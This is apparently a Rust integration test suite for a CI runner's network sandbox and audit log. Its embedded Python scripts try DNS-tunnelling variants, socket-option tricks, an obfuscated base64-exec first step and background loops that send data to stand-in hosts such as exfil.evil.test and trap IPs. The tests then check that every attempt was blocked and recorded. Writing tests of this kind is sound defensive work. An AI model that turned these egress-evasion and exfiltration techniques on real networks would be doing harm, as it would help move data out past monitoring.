//! DNS as a channel, fail-open paths, protocol and socket coverage, and the edges of a
//! job's life (its first instruction, a background process still trying while the
//! runner is torn down, requests in flight at its end), from inside real sandboxes as
//! root, through the product's contracts only. Each checks that nothing reached a trap,
//! a web server or the upstream DNS server, and that every attempt left an audit event.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use runner_agent_tests::agent::{
    describe, processes_with, read_audit, World, HOST_SIDE, PY_ATTACK_PRELUDE,
};
use runner_agent_tests::netbed::{
    allowed_test_bed, allowed_test_config, settle, NetBed, DNS_IP, TRAP_IPS, WEB_IP,
};
use runner_agent_tests::require_privilege;

const PRELUDE: &str = r#"
def L(name):
    return [p.encode() for p in name.split(".")]
def tcp(label, addr, data, wait=1.5, pause=0.05):
    out = raw(addr, data, wait=wait, pause=pause)
    print("ATTEMPT", label, "->", repr(out[:120]), flush=True)
    return out
"#;

/// Runs `script` (after the shared preludes) as the one step, `step`, of a job `name`
/// (`before` and `args` as for `python_job`); returns its output and audit events once
/// packets in flight have been recorded.
fn run_python(
    world: &World,
    name: &str,
    step: &str,
    (before, args): (&str, &str),
    script: &str,
) -> (std::process::Output, Vec<serde_json::Value>) {
    world.run_python_audited(
        name,
        step,
        before,
        args,
        &format!("{PY_ATTACK_PRELUDE}\n{PRELUDE}\n{script}"),
    )
}

/// What reached a trap, the upstream DNS server (a denied name) or a web server (a
/// `/leak-` path): each a problem.
fn what_got_through(bed: &NetBed) -> Vec<String> {
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    if bed.dns_hits().iter().any(|h| h.name.contains("evil")) {
        problems.push(format!("upstream saw: {:?}", bed.dns_hits()));
    }
    if bed.web_hits().iter().any(|h| h.path.contains("leak")) {
        problems.push(format!("web: {:?}", bed.web_hits()));
    }
    problems
}

fn print_all(output: &std::process::Output, events: &[serde_json::Value]) {
    println!("{}", describe(output));
    for e in events {
        println!("EVENT {e}");
    }
}

fn has_event_host_prefix(events: &[serde_json::Value], prefix: &str) -> bool {
    events.iter().any(|e| {
        e["host"].as_str().is_some_and(|h| h.starts_with(prefix))
            || e["reason"]
                .as_str()
                .is_some_and(|r| r.to_ascii_lowercase().contains(prefix))
    })
}

// ----------------------------------------------------------------- 1. DNS variants

const DNS_VARIANTS: &str = r#"
TRAP = sys.argv[1]
HS = sys.argv[2]
RUNNER = sys.argv[3]
D = (TRAP, 53)
setcomm("dnsvar")
# a. 0x20 case on a denied name; trailing dots; allowed in odd case
udp("case", q(L("CASE1.EXFIL.EVIL.TEST")), D)
udp("allowed-case", q(L("AlLoWeD.TeSt")), D)
# b. escaped bytes inside labels: a label holding dots / NUL making the text end in allowed.test
udp("esc-dot", q([b"esc2", b"exfil", b"evil.test", b"allowed", b"test"]), D)
udp("esc-dot2", q([b"esc3.exfil.evil.test.allowed", b"test"]), D)
udp("esc-nul", q([b"esc4\x00exfil", b"evil", b"test"]), D)
udp("esc-high", q([b"esc5\xffexfil", b"allowed", b"test"]), D)
udp("esc-space", q([b"esc6 exfil", b"allowed", b"test"]), D)
udp("esc-backslash", q([b"esc7\\.evil", b"allowed", b"test"]), D)
# c. 63-byte labels, 253+ byte names
lab = b"l63x" + b"a" * 59
udp("label63-evil", q([lab, b"exfil", b"evil", b"test"]), D)
long = [b"long8" + b"b" * 58, b"c" * 63, b"d" * 63, b"e" * 50, b"evil", b"test"]
udp("name-long-evil", q(long), D)
toolong = [b"long9" + b"b" * 58, b"c" * 63, b"d" * 63, b"e" * 63, b"allowed", b"test"]
udp("name-toolong-allowed", q(toolong), D)
# d. IDNA / punycode
udp("puny-upper", q(L("XN--PUNY10-EXFIL.evil.test")), D)
udp("puny-allowed-fake", q(L("XN--ALLOWED-.test")), D)
udp("unicode-raw", q([b"uni11", "\u0430llowed".encode(), b"test"]), D)
udp("fullwidth", q(["\uff41llowed".encode(), b"test"]), D)
# e. allowed QNAME with data in other sections, EDNS options
ecs = struct.pack("!HHHBB", 8, 4 + 4, 1, 24, 0) + bytes([10, 9, 8, 7])
pad = struct.pack("!HH", 12, 40) + b"EXFILPAD" * 5
cookie = struct.pack("!HH", 10, 8) + b"EXFCOOKI"
opt = b"\x00" + struct.pack("!HHIH", 41, 4096, 0, len(ecs + pad + cookie)) + ecs + pad + cookie
udp("edns-allowed", q(L("allowed.test"), ar=1, extra=opt), D)
udp("edns-denied", q(L("edns12.exfil.evil.test"), ar=1, extra=opt), D)
txt = b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 60, 17) + b"\x10EXFIL-ANSWERSECT"
udp("answer-section", q(L("allowed.test"), an=1, extra=txt), D)
udp("class-ch", q(L("version.bind"), qtype=16, qclass=3), D)
udp("class-any-allowed", q(L("allowed.test"), qclass=255), D)
udp("type-any-allowed", q(L("allowed.test"), qtype=255), D)
udp("type-txt-allowed", q(L("txt13.allowed.test"), qtype=16), D)
udp("aaaa-allowed", q(L("allowed.test"), qtype=28), D)
# f. other addresses on :53
udp("to-127.0.0.53", q(L("lo14.exfil.evil.test")), ("127.0.0.53", 53))
udp("to-hostside", q(L("hs15.exfil.evil.test")), (HS, 53))
udp("to-self", q(L("self16.exfil.evil.test")), (RUNNER, 53))
udp("to-bcast", q(L("bc17.exfil.evil.test")), ("255.255.255.255", 53), opts=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
udp("to-mcast", q(L("mc18.exfil.evil.test")), ("224.0.0.251", 53))
udp("to-0.0.0.0", q(L("zero19.exfil.evil.test")), ("0.0.0.0", 53))
# g. DNS over TCP: pipelined, split length, zero length, bad length
a = q(L("allowed.test"), qid=1)
p1 = q(L("pipe20.exfil.evil.test"), qid=2)
p2 = q(L("pipe21.exfil.evil.test"), qid=3, qtype=16)
tcp("tcp-pipelined", D, u16(len(a)) + a + u16(len(p1)) + p1 + u16(len(p2)) + p2)
s22 = q(L("split22.exfil.evil.test"))
tcp("tcp-split-len", D, [b"\x00", bytes([len(s22)]) + s22[:5], s22[5:]], pause=0.3)
z = q(L("zero23.exfil.evil.test"))
tcp("tcp-zero-len", D, b"\x00\x00" + u16(len(z)) + z)
b24 = q(L("bad24.exfil.evil.test"))
tcp("tcp-short", D, u16(len(b24) + 40) + b24, wait=0.5)
big = q(L("allowed.test"), ar=1, extra=b"\x00" + struct.pack("!HHIH", 41, 4096, 0, 4 + 60000) + struct.pack("!HH", 65001, 60000) + b"X" * 60000)
tcp("tcp-big-allowed", D, u16(len(big)) + big)
# h. a DNS-shaped UDP reply to an outside resolver port
resp = q(L("resp25.exfil.evil.test"), flags=0x8180)
udp("response-shaped", resp, D)
print("DNS-DONE", flush=True)
"#;

#[test]
fn dns_variants() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let runner_ip =
        "runner_ip=$(ip -4 -o addr show scope global | awk '{print $4}' | cut -d/ -f1 | head -1)";
    let (output, events) = run_python(
        &world,
        "dnsvar",
        "dns variants",
        (
            &format!("{HOST_SIDE}; {runner_ip}"),
            &format!("{} $host_side $runner_ip", TRAP_IPS[0]),
        ),
        DNS_VARIANTS,
    );
    print_all(&output, &events);
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    for h in bed.dns_hits() {
        println!("UPSTREAM {h:?}");
        if h.name != "allowed.test" {
            problems.push(format!("upstream saw {h:?}"));
        }
    }
    for tag in [
        "case1",
        "esc2",
        "esc3",
        "esc4",
        "esc5",
        "esc6",
        "esc7",
        "l63x",
        "long8",
        "xn--puny10",
        "uni11",
        "edns12",
        "hs15",
        "self16",
        "bc17",
        "mc18",
        "zero19",
        "pipe20",
        "pipe21",
        "split22",
        "zero23",
    ] {
        if !has_event_host_prefix(&events, tag) {
            problems.push(format!("no event naming {tag}"));
        }
    }
    for reason in ["incomplete DNS message", "malformed DNS message"] {
        if !events
            .iter()
            .any(|e| e["reason"].as_str().is_some_and(|r| r.contains(reason)))
        {
            problems.push(format!("no event `{reason}`"));
        }
    }
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("DNS-DONE"), "{}", describe(&output));
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ------------------------------------------------- 2. what runs after the last step

/// A background loop started by the last step: each round a DNS query for a unique denied
/// name (connected UDP to the bed's DNS server, redirected) and a TCP connection to a trap
/// carrying an HTTP request with a unique Host. Every result is appended to a log file the
/// test reads through /proc/PID/root while the agent tears the runner down.
const BACKGROUND: &str = r#"
import socket, struct, time, os
DNS = os.environ["BG_DNS"]
TRAP = os.environ["BG_TRAP"]
def wire_name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\x00"
def query(n):
    return struct.pack("!HHHHHH", 0x7777, 0x0100, 1, 0, 0, 0) + wire_name(n) + struct.pack("!HH", 1, 1)
log = open("/workspace/bglog.txt", "a", buffering=1)
held = []
PROXY = os.environ.get("HTTP_PROXY", "").split("://", 1)[-1].rstrip("/")
for i in range(int(os.environ.get("BG_TUNNELS", "0"))):
    try:
        h, p = PROXY.rsplit(":", 1)
        c = socket.create_connection((h, int(p)), timeout=5)
        c.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
        c.recv(4096)
        held.append(c)
    except OSError as e:
        log.write("tunnel %d failed %s\n" % (i, e))
        break
log.write("tunnels %d\n" % len(held))
n = 0
while True:
    n += 1
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    try:
        s.connect((DNS, 53))
        s.send(query("bg%d.exfil.evil.test" % n))
        r = s.recv(512)
        res = "reply-rcode-%d" % (r[3] & 15)
    except ConnectionRefusedError:
        res = "refused"
    except OSError as e:
        res = "err-%s" % type(e).__name__
    s.close()
    log.write("%d dns %s %.6f\n" % (n, res, time.time()))
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.settimeout(0.3)
    try:
        t.connect((TRAP, 80))
        t.sendall(("GET /leak-bg%d HTTP/1.1\r\nHost: bgt%d.evil.test\r\nConnection: close\r\n\r\n" % (n, n)).encode())
        b = t.recv(64)
        res = "http-" + (b[9:12].decode() if len(b) >= 12 else "short")
    except ConnectionRefusedError:
        res = "refused"
    except OSError as e:
        res = "err-%s" % type(e).__name__
    t.close()
    log.write("%d tcp %s %.6f\n" % (n, res, time.time()))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"LEAK-BG-UDP-%d" % n, (TRAP, 9999))
        res = "sent"
    except PermissionError:
        res = "eperm"
    except OSError as e:
        res = "err-%s" % type(e).__name__
    u.close()
    log.write("%d udp9999 %s %.6f\n" % (n, res, time.time()))
"#;

#[test]
fn attempts_after_the_last_step_are_recorded() {
    after_the_last_step(0);
}

fn after_the_last_step(tunnels: usize) {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let script = runner_agent_tests::agent::indent(BACKGROUND, 6);
    let job = world.job(
        "bg.yaml",
        &format!(
            "name: bg\nsteps:\n  - name: start a background loop\n    run: |\n      cat > /workspace/rt3bgmark.py <<'PY'\n{script}\n      PY\n      BG_TUNNELS={tunnels} BG_DNS={DNS_IP} BG_TRAP={} setsid python3 /workspace/rt3bgmark.py >/dev/null 2>&1 </dev/null &\n      sleep 4\n",
            TRAP_IPS[0]
        ),
    );
    let audit = world.dir.path().join("bg-audit.jsonl");
    let mut child = world.spawn_with(&job, &["--audit-log", &audit.to_string_lossy()]);
    let mut last_log = String::new();
    let start = Instant::now();
    let mut bg_pid: Option<u32> = None;
    // Held open: the file stays readable after the runner's tmpfs is detached, so the
    // last lines the loop wrote before it was killed are read too.
    let mut held: Option<std::fs::File> = None;
    while child.try_wait().expect("try_wait").is_none() && start.elapsed() < Duration::from_secs(60)
    {
        if bg_pid.is_none() {
            bg_pid = processes_with("rt3bgmark.py").into_iter().next();
        }
        if let (Some(pid), None) = (bg_pid, held.as_ref()) {
            held = std::fs::File::open(format!("/proc/{pid}/root/workspace/bglog.txt")).ok();
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    if let Some(mut f) = held.take() {
        use std::io::{Read, Seek};
        let _ = f.seek(std::io::SeekFrom::Start(0));
        let _ = f.read_to_string(&mut last_log);
    }
    let output = child.wait_with_output().expect("wait");
    settle();
    let events = read_audit(&audit);
    println!("{}", describe(&output));
    let mut problems = what_got_through(&bed);
    let mut results: BTreeMap<String, usize> = BTreeMap::new();
    let mut unrecorded = Vec::new();
    let lines: Vec<&str> = last_log.lines().collect();
    println!("background log: {} lines; last 12:", lines.len());
    for l in lines.iter().rev().take(12).rev() {
        println!("  {l}");
    }
    for l in &lines {
        let parts: Vec<&str> = l.split(' ').collect();
        if parts.len() < 4 {
            continue;
        }
        let (n, kind, res) = (parts[0], parts[1], parts[2]);
        *results.entry(format!("{kind} {res}")).or_default() += 1;
        if kind == "udp9999" {
            continue;
        }
        let name = if kind == "dns" {
            format!("bg{n}.exfil.evil.test")
        } else {
            format!("bgt{n}.evil.test")
        };
        let recorded = events.iter().any(|e| e["host"] == name.as_str());
        if !recorded {
            unrecorded.push(l.to_string());
        }
    }
    println!("results: {results:?}");
    let udp_attempts = results.get("udp9999 eperm").copied().unwrap_or(0);
    let udp_events = events
        .iter()
        .filter(|e| e["port"] == 9999 && e["verdict"] == "deny")
        .count();
    let not_itemised: Vec<_> = events
        .iter()
        .filter(|e| {
            e["reason"]
                .as_str()
                .is_some_and(|r| r.contains("not itemised"))
        })
        .collect();
    println!("udp :9999 refused {udp_attempts}, deny events {udp_events}, not-itemised events {not_itemised:?}");
    if udp_events < udp_attempts {
        problems.push(format!(
            "{udp_attempts} refused sends to :9999 but {udp_events} deny events"
        ));
    }
    println!(
        "attempts without an event: {} (first 20: {:?})",
        unrecorded.len(),
        unrecorded.iter().take(20).collect::<Vec<_>>()
    );
    let refused_unrecorded: Vec<_> = unrecorded
        .iter()
        .filter(|l| l.contains(" refused "))
        .collect();
    if !refused_unrecorded.is_empty() {
        problems.push(format!(
            "{} attempts the fence redirected to a proxy that was gone, with no audit event (e.g. {:?})",
            refused_unrecorded.len(),
            refused_unrecorded.iter().take(5).collect::<Vec<_>>()
        ));
    }
    let answered_unrecorded: Vec<_> = unrecorded
        .iter()
        .filter(|l| l.contains("reply-") || l.contains("http-"))
        .collect();
    if !answered_unrecorded.is_empty() {
        problems.push(format!(
            "{} attempts answered by the proxy with no audit event (e.g. {:?})",
            answered_unrecorded.len(),
            answered_unrecorded.iter().take(5).collect::<Vec<_>>()
        ));
    }
    let ebpf_after: Vec<_> = events.iter().filter(|e| e["source"] == "ebpf").collect();
    println!("ebpf events: {}", ebpf_after.len());
    let proc_left = processes_with("rt3bgmark.py");
    if !proc_left.is_empty() {
        problems.push(format!("background process left: {proc_left:?}"));
    }
    world.assert_job_left_nothing(&output);
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ----------------------------------------------------- 3. upstream DNS unreachable

const UPSTREAM_DOWN: &str = r#"
TRAP = sys.argv[1]
WEB = sys.argv[2]
setcomm("updown")
udp("allowed-udp", q(L("allowed.test")), (TRAP, 53), wait=12)
udp("allowed-aaaa", q(L("api.allowed.test"), qtype=28), (TRAP, 53), wait=12)
tcp("tls-transparent", (WEB, 443), client_hello([b"allowed.test"]), wait=12)
tcp("http-transparent", (WEB, 80), b"GET /leak-updown-http HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", wait=12)
tcp("explicit-connect", E, b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", wait=12)
tcp("explicit-get", E, b"GET http://allowed.test/leak-updown-explicit HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", wait=12)
print("UPDOWN-DONE", flush=True)
"#;

#[test]
fn upstream_dns_unreachable_has_no_fallback() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let config = allowed_test_config("", "").replace(
        &format!("upstream_dns: [{DNS_IP}]"),
        "upstream_dns: [198.51.100.99]",
    );
    assert!(config.contains("198.51.100.99"), "{config}");
    let world = World::in_netns(bed.host_ns(), "", &config);
    let (output, events) = run_python(
        &world,
        "updown",
        "upstream down",
        ("", &format!("{} {WEB_IP}", TRAP_IPS[0])),
        UPSTREAM_DOWN,
    );
    print_all(&output, &events);
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    if !bed.dns_hits().is_empty() {
        problems.push(format!(
            "the bed's DNS server was asked: {:?}",
            bed.dns_hits()
        ));
    }
    if !bed.web_hits().is_empty() {
        problems.push(format!("web hits: {:?}", bed.web_hits()));
    }
    for kind in ["dns", "tls", "http", "connect"] {
        if !events.iter().any(|e| e["kind"] == kind) {
            problems.push(format!("no {kind} event"));
        }
    }
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("UPDOWN-DONE"), "{}", describe(&output));
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ------------------------------------------------------------- 4. socket tricks

const SOCKETS: &str = r#"
TRAP = sys.argv[1]
HS = sys.argv[2]
setcomm("socktricks")
MSG_FASTOPEN = 0x20000000
def tfo(label, addr, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        n = s.sendto(data, MSG_FASTOPEN, addr)
        print("ATTEMPT", label, "sendto returned", n, flush=True)
        print("ATTEMPT", label, "->", repr(read_all(s, 3)[:100]), flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
    s.close()
# TCP Fast Open, with and without the sysctl's client bit (the job cannot set it)
tfo("tfo-80", (TRAP, 80), b"GET /leak-tfo80 HTTP/1.1\r\nHost: tfo1.evil.test\r\nConnection: close\r\n\r\n")
tfo("tfo-22", (TRAP, 22), b"SSH-2.0-LEAK-TFO22\r\n")
tfo("tfo-443", (TRAP, 443), client_hello([b"tfo3.evil.test"]))
tfo("tfo-hs-22", (HS, 22), b"LEAK-TFO-HS22\r\n")
# TCP_FASTOPEN_CONNECT (connect returns at once, SYN leaves with the first write)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.IPPROTO_TCP, 30, 1)
s.settimeout(3)
try:
    s.connect((TRAP, 8080))
    s.sendall(b"GET /leak-tfoc HTTP/1.1\r\nHost: tfoc4.evil.test\r\nConnection: close\r\n\r\n")
    print("ATTEMPT tfo-connect ->", repr(s.recv(100)), flush=True)
except OSError as e:
    print("ATTEMPT tfo-connect -> refused", e, flush=True)
s.close()
# IP_PKTINFO with a foreign source (IP_FREEBIND) toward :53 (redirected)
IP_PKTINFO = 8
IP_FREEBIND = 15
for label, dst, src, free in [
    ("pktinfo-spoof-53", (TRAP, 53), "203.0.113.20", True),
    ("pktinfo-9999", (TRAP, 9999), "0.0.0.0", False),
    ("pktinfo-hs-src", (TRAP, 53), HS, True),
]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if free:
        s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
    s.settimeout(1)
    pi = struct.pack("=I4s4s", 0, socket.inet_aton(src), socket.inet_aton("0.0.0.0"))
    try:
        s.sendmsg([q(L("pkt%s.exfil.evil.test" % label.replace("-", "")))], [(socket.IPPROTO_IP, IP_PKTINFO, pi)], 0, dst)
        try:
            r = s.recv(512)
            print("ATTEMPT", label, "-> reply", len(r), flush=True)
        except OSError as e:
            print("ATTEMPT", label, "-> no reply", e, flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
    s.close()
# IP_TTL 1 / IP_TOS / IP_RECVERR on a connected UDP socket, then sendto elsewhere
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0xb8)
s.connect((TRAP, 53))
for label, addr in [("conn-sendto-9999", (TRAP, 9999)), ("conn-sendto-hs-3128", (HS, 3128)), ("conn-sendto-hs-3053", (HS, 3053))]:
    try:
        s.sendto(b"LEAK-" + label.encode(), addr)
        print("ATTEMPT", label, "-> sent", flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
s.close()
# MSG_ZEROCOPY on a redirected TCP connection
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, 60, 1)
s.settimeout(3)
try:
    s.connect((TRAP, 80))
    s.send(b"GET /leak-zc HTTP/1.1\r\nHost: zc5.evil.test\r\nConnection: close\r\n\r\n", 0x4000000)
    print("ATTEMPT zerocopy ->", repr(s.recv(100)), flush=True)
except OSError as e:
    print("ATTEMPT zerocopy -> refused", e, flush=True)
s.close()
# socket types: SOCK_DCCP, SOCK_SEQPACKET, SOCK_RDM, IPPROTO_MPTCP on v4
for label, fam, typ, proto in [("dccp", 2, 6, 0), ("seqpacket", 2, 5, 0), ("rdm", 2, 4, 0), ("mptcp", 2, 1, 262), ("stream-udp", 2, 1, 17), ("dgram-tcp", 2, 2, 6), ("stream-raw255", 2, 1, 255), ("dgram-icmp", 2, 2, 1), ("dgram-udplite", 2, 2, 136)]:
    try:
        s = socket.socket(fam, typ, proto)
        print("ATTEMPT sock-" + label, "-> created", flush=True)
        try:
            s.settimeout(2)
            s.connect((TRAP, 80))
            print("LEAK sock-" + label, "connected", flush=True)
        except OSError as e:
            print("ATTEMPT sock-" + label, "connect", e, flush=True)
        s.close()
    except OSError as e:
        print("ATTEMPT sock-" + label, "-> refused", e, flush=True)
print("SOCK-DONE", flush=True)
"#;

#[test]
fn socket_tricks() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let (output, events) = run_python(
        &world,
        "sock",
        "socket tricks",
        (HOST_SIDE, &format!("{} $host_side", TRAP_IPS[0])),
        SOCKETS,
    );
    print_all(&output, &events);
    let mut problems = what_got_through(&bed);
    let stdout = String::from_utf8_lossy(&output.stdout);
    if stdout.contains("LEAK ") {
        problems.push("a LEAK line".to_owned());
    }
    for tag in ["tfo1", "tfo3", "tfoc4", "zc5"] {
        if !has_event_host_prefix(&events, tag) {
            problems.push(format!("no event naming {tag}"));
        }
    }
    let trap = TRAP_IPS[0].to_string();
    for port in [22u16, 9999] {
        if !events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["ip"] == trap.as_str() && e["port"] == port)
        {
            problems.push(format!("no deny event for {trap}:{port}"));
        }
    }
    assert!(stdout.contains("SOCK-DONE"), "{}", describe(&output));
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ------------------------- 5. what the upstream resolver sees; CNAME to a denied name

#[test]
fn the_first_instruction_is_fenced_and_recorded() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let trap = TRAP_IPS[0];
    let script = format!(
        r#"import socket,struct
q=struct.pack('!HHHHHH',7,256,1,0,0,0)+b'\x06first1\x05exfil\x04evil\x04test\x00\x00\x01\x00\x01'
s=socket.socket(2,2);s.settimeout(2);s.sendto(q,('{trap}',53))
try: print('dns',s.recv(512)[3]&15, flush=True)
except OSError as e: print('dns',e, flush=True)
t=socket.socket();t.settimeout(3)
try:
  t.connect(('{trap}',80));t.sendall(b'GET /leak-first HTTP/1.1\r\nHost: first2.evil.test\r\n\r\n');print('tcp',t.recv(40), flush=True)
except OSError as e: print('tcp',e, flush=True)
u=socket.socket(2,2)
try: u.sendto(b'LEAK-FIRST-UDP',('{trap}',9999))
except OSError as e: print('udp',e, flush=True)
"#
    );
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(script);
    let job = world.job(
        "first.yaml",
        &format!("name: first\nsteps:\n  - name: first\n    run: |\n      exec python3 -c \"import base64;exec(base64.b64decode('{b64}'))\"\n"),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    print_all(&output, &events);
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    for tag in ["first1", "first2"] {
        if !has_event_host_prefix(&events, tag) {
            problems.push(format!("no event naming {tag}"));
        }
    }
    if !events
        .iter()
        .any(|e| e["port"] == 9999 && e["verdict"] == "deny")
    {
        problems.push("no event for :9999".to_owned());
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// -------------------- 7. allowed requests still uploading when the job ends

const SLOW_UPLOADS: &str = r#"
import socket, os, time, threading
WEB = os.environ["BG_WEB"]
PROXY = os.environ.get("HTTP_PROXY", "").split("://", 1)[-1].rstrip("/")
PH, PP = PROXY.rsplit(":", 1)
def upload(addr, head):
    try:
        c = socket.create_connection(addr, timeout=5)
        c.sendall(head)
        while True:
            c.sendall(b"U" * 1024)
            time.sleep(0.01)
    except OSError:
        pass
threads = []
for i in range(3):
    threads.append(threading.Thread(target=upload, args=((WEB, 80), ("POST /bgup-transparent-%d HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 100000000\r\n\r\n" % i).encode())))
    threads.append(threading.Thread(target=upload, args=((PH, int(PP)), ("POST http://allowed.test/bgup-explicit-%d HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 100000000\r\n\r\n" % i).encode())))
for t in threads:
    t.start()
    time.sleep(0.2)
for t in threads:
    t.join()
"#;

#[test]
fn allowed_requests_in_flight_at_the_end_are_recorded() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let script = runner_agent_tests::agent::indent(SLOW_UPLOADS, 6);
    let job = world.job(
        "up.yaml",
        &format!(
            "name: up\nsteps:\n  - name: slow uploads in the background\n    run: |\n      cat > /workspace/rt3up.py <<'PY'\n{script}\n      PY\n      BG_WEB={WEB_IP} setsid python3 /workspace/rt3up.py >/dev/null 2>&1 </dev/null &\n      sleep 3\n"
        ),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    println!("{}", describe(&output));
    for e in events.iter().filter(|e| e["source"] == "proxy") {
        println!("EVENT {e}");
    }
    let mut problems = Vec::new();
    let hits: Vec<String> = bed.web_hits().into_iter().map(|h| h.path).collect();
    println!("WEB {hits:?}");
    for path in &hits {
        let recorded = events.iter().any(|e| {
            e["path"]
                .as_str()
                .is_some_and(|p| p.ends_with(path.as_str()))
        });
        if !recorded {
            problems.push(format!("{path} reached the server and has no audit event"));
        }
    }
    if hits.is_empty() {
        problems.push("no upload reached the server (test did not work)".to_owned());
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}
